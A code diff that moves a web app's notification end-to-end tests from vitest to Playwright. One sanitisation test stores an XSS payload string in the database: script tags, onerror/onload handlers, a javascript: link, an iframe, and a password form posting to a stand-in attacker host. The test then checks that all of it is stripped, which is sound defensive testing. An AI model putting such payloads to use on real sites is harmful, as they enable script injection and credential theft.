@@ -1,24 +1,21 @@
-import type { Page } from 'playwright-core'
-import { describe, expect, it } from 'vitest'
-import { axe, BOTH_SIZES, useBrowser, visit } from '../support/browser.ts'
+import type { Page } from '@playwright/test'
+import { axe, BOTH_SIZES } from '../support/browser.ts'
 import { status } from '../support/console-noise.ts'
 import { liveLine } from '../support/live-line.ts'
 import { arriveAt } from '../support/members.ts'
 import { freezeClock } from '../support/page-clock.ts'
 import { callAs, signInAs } from '../support/sign-in.ts'
-import { useWorld } from '../support/world.ts'
-
-useBrowser()
-const world = useWorld()
+import { expect, test } from '../support/test.ts'
+import type { World } from '../support/world.ts'
 
 /** Stores a notification as it is, past the server's cleaning: what an older version may have left. */
-const store = (memberId: number, cause: string, title: string, message: string) =>
-  world().db.pool.query(
+const store = (world: World, memberId: number, cause: string, title: string, message: string) =>
+  world.db.pool.query(
     'insert into notification (member_id, cause, title, message, created_at) values ($1, $2, $3, $4, $5)',
-    [memberId, cause, title, message, world().clock.now()],
+    [memberId, cause, title, message, world.clock.now()],
   )
-const invite = (memberId: number) =>
-  world().db.pool.query(
+const invite = (world: World, memberId: number) =>
+  world.db.pool.query(
     `insert into review_invitation (member_id, review_step_id, level, occasion, invited_at)
       values ($1, 6, 1, 'module-12', now())`,
     [memberId],
@@ -27,19 +24,21 @@ const messages = (page: Page) => page.getByRole('region', { name: 'Messages' })
 const toast = (page: Page, title: string) => messages(page).getByRole('status').filter({ hasText: title })
 
 /** A member on the dashboard to whom some things happened. */
-const arriveWith = async (page: Page, count: number) => {
-  const { member } = await arriveAt(page, world(), 4)
+const arriveWith = async (world: World, page: Page, count: number) => {
+  const { member } = await arriveAt(page, world, 4)
   for (let n = 1; n <= count; n += 1)
-    await store(member.id, `${n}`, `News ${n}`, `<p>About <b>it ${n}</b></p>`)
+    await store(world, member.id, `${n}`, `News ${n}`, `<p>About <b>it ${n}</b></p>`)
   return member
 }
 
-describe('what happened while the member was away', () => {
-  it.each(BOTH_SIZES)(
-    'is shown with title and HTML message until it is closed, on %s [NOTIF-03, NOTIF-04, NOTIF-05]',
-    async (size) => {
+test.describe('what happened while the member was away', () => {
+  for (const size of BOTH_SIZES)
+    test(`is shown with title and HTML message until it is closed, on ${size} [NOTIF-03, NOTIF-04, NOTIF-05]`, async ({
+      visit,
+      world,
+    }) => {
       const page = await visit({ size })
-      await arriveWith(page, 3)
+      await arriveWith(world, page, 3)
       await page.goto('/dashboard')
       await toast(page, 'News 1').waitFor()
       await expect.poll(() => toast(page, 'News 1').locator('b').innerText()).toBe('it 1')
@@ -65,14 +64,15 @@ describe('what happened while the member was away', () => {
       await page.keyboard.press('Escape')
       const bell = page.getByRole('button', { name: 'Notifications', exact: true })
       await expect.poll(() => bell.evaluate((element) => element === document.activeElement)).toBe(true)
-    },
-  )
+    })
 
-  it.each(BOTH_SIZES)(
-    'is one line when it is more than the page has room for, and the line opens the list, on %s [NOTIF-05]',
-    async (size) => {
+  for (const size of BOTH_SIZES)
+    test(`is one line when it is more than the page has room for, and the line opens the list, on ${size} [NOTIF-05]`, async ({
+      visit,
+      world,
+    }) => {
       const page = await visit({ size })
-      await arriveWith(page, 9)
+      await arriveWith(world, page, 9)
       await page.goto('/dashboard')
       await toast(page, '9 new notifications').waitFor()
       expect(await messages(page).getByRole('status').count()).toBe(1)
@@ -81,12 +81,14 @@ describe('what happened while the member was away', () => {
       const list = page.getByRole('dialog', { name: 'Notifications' })
       await expect.poll(() => list.getByRole('listitem').count()).toBe(9)
       await expect.poll(() => messages(page).getByRole('status').count()).toBe(0)
-    },
-  )
+    })
 
-  it('is delivered once; what was read here is not new on another device, what comes after it is [NOTIF-03, NOTIF-05]', async () => {
+  test('is delivered once; what was read here is not new on another device, what comes after it is [NOTIF-03, NOTIF-05]', async ({
+    visit,
+    world,
+  }) => {
     const page = await visit()
-    const member = await arriveWith(page, 5)
+    const member = await arriveWith(world, page, 5)
     await page.goto('/dashboard')
     await toast(page, '5 new notifications').waitFor()
     await page.reload()
@@ -95,17 +97,17 @@ describe('what happened while the member was away', () => {
     await expect.poll(() => messages(page).getByRole('status').count()).toBe(0)
     await page.keyboard.press('Escape')
     await page.getByRole('button', { name: 'Notifications', exact: true }).waitFor()
-    await store(member.id, '6', 'News 6', '<p>About it</p>')
+    await store(world, member.id, '6', 'News 6', '<p>About it</p>')
     const elsewhere = await visit()
     await signInAs(elsewhere, member.id)
     await elsewhere.goto('/dashboard')
     await elsewhere.getByRole('button', { name: 'Notifications, 1 new' }).waitFor()
   })
 
-  it('waits while a window is open, whose buttons it would lie on [NOTIF-05]', async () => {
+  test('waits while a window is open, whose buttons it would lie on [NOTIF-05]', async ({ visit, world }) => {
     const page = await visit({ size: 'mobile' })
-    const { member } = await arriveAt(page, world(), 4)
-    await store(member.id, '1', 'News 1', '<p>About it</p>')
+    const { member } = await arriveAt(page, world, 4)
+    await store(world, member.id, '1', 'News 1', '<p>About it</p>')
     await page.goto('/dashboard')
     await toast(page, 'News 1').waitFor()
     await page.getByRole('button', { name: 'Time zone', exact: true }).click()
@@ -115,20 +117,22 @@ describe('what happened while the member was away', () => {
     await toast(page, 'News 1').waitFor()
   })
 
-  it.each(['browser', 'library'])(
-    'cannot harm: what slipped into the database is cleaned once more, by the %s [NOTIF-04, NOTIF-05]',
-    async (cleaner) => {
+  for (const cleaner of ['browser', 'library'])
+    test(`cannot harm: what slipped into the database is cleaned once more, by the ${cleaner} [NOTIF-04, NOTIF-05]`, async ({
+      visit,
+      world,
+    }) => {
       // The browser mentions handlers that it meets while the library cleans the text, apart from the page, and that
       // the picture that is left of the attack is none.
       const page = await visit({ expected: [/Executing inline event handler violates/, /\/x\)?$/] })
       if (cleaner === 'library')
         await page.addInitScript(() => Reflect.deleteProperty(Element.prototype, 'setHTML'))
-      const { member } = await arriveAt(page, world(), 4)
+      const { member } = await arriveAt(page, world, 4)
       const attack =
         '<p id="main" style="position:fixed;inset:0">Hello</p><img src=x onerror="window.hit=1"><script>window.hit=1</script>' +
         '<svg onload="window.hit=1"></svg><a href="javascript:window.hit=1">here</a><iframe srcdoc="<script>parent.hit=1</script>"></iframe>' +
         '<form action="https://evil.example"><input name="password"></form>'
-      await store(member.id, 'attack', 'Careful <b>now</b>', attack)
+      await store(world, member.id, 'attack', 'Careful <b>now</b>', attack)
       await page.goto('/dashboard')
       const card = toast(page, 'Careful <b>now</b>')
       await card.waitFor()
@@ -138,15 +142,17 @@ describe('what happened while the member was away', () => {
         await card.locator('script, iframe, form, input, [style], [onerror], [onload], [id]').count(),
       ).toBe(0)
       expect(await card.getByText('here').getAttribute('href')).toBeNull()
-    },
-  )
+    })
 })
 
-describe('the live line', () => {
-  it('brings the level review’s notification a second after the hint, and its link leads to the welcome page [NOTIF-01, NOTIF-02, NOTIF-05]', async () => {
+test.describe('the live line', () => {
+  test('brings the level review’s notification a second after the hint, and its link leads to the welcome page [NOTIF-01, NOTIF-02, NOTIF-05]', async ({
+    visit,
+    world,
+  }) => {
     const page = await visit()
-    const { member, session } = await arriveAt(page, world(), 4)
-    await invite(member.id)
+    const { member, session } = await arriveAt(page, world, 4)
+    await invite(world, member.id)
     const joined = liveLine(page)
     const look = /\/Notification\/GetNotification/
     const looked = page.waitForResponse(look)
@@ -176,11 +182,11 @@ describe('the live line', () => {
     await expect.poll(() => messages(page).getByRole('status').count()).toBe(0)
   })
 
-  it('keeps what is shown when the next look fails [NOTIF-05]', async () => {
+  test('keeps what is shown when the next look fails [NOTIF-05]', async ({ visit, world }) => {
     const page = await visit({ expected: status(500) })
-    const { member, session } = await arriveAt(page, world(), 4)
-    await invite(member.id)
-    await store(member.id, 'first', 'First news', '<p>Still here</p>')
+    const { member, session } = await arriveAt(page, world, 4)
+    await invite(world, member.id)
+    await store(world, member.id, 'first', 'First news', '<p>Still here</p>')
     const joined = liveLine(page)
     await page.goto('/membership')
     await joined
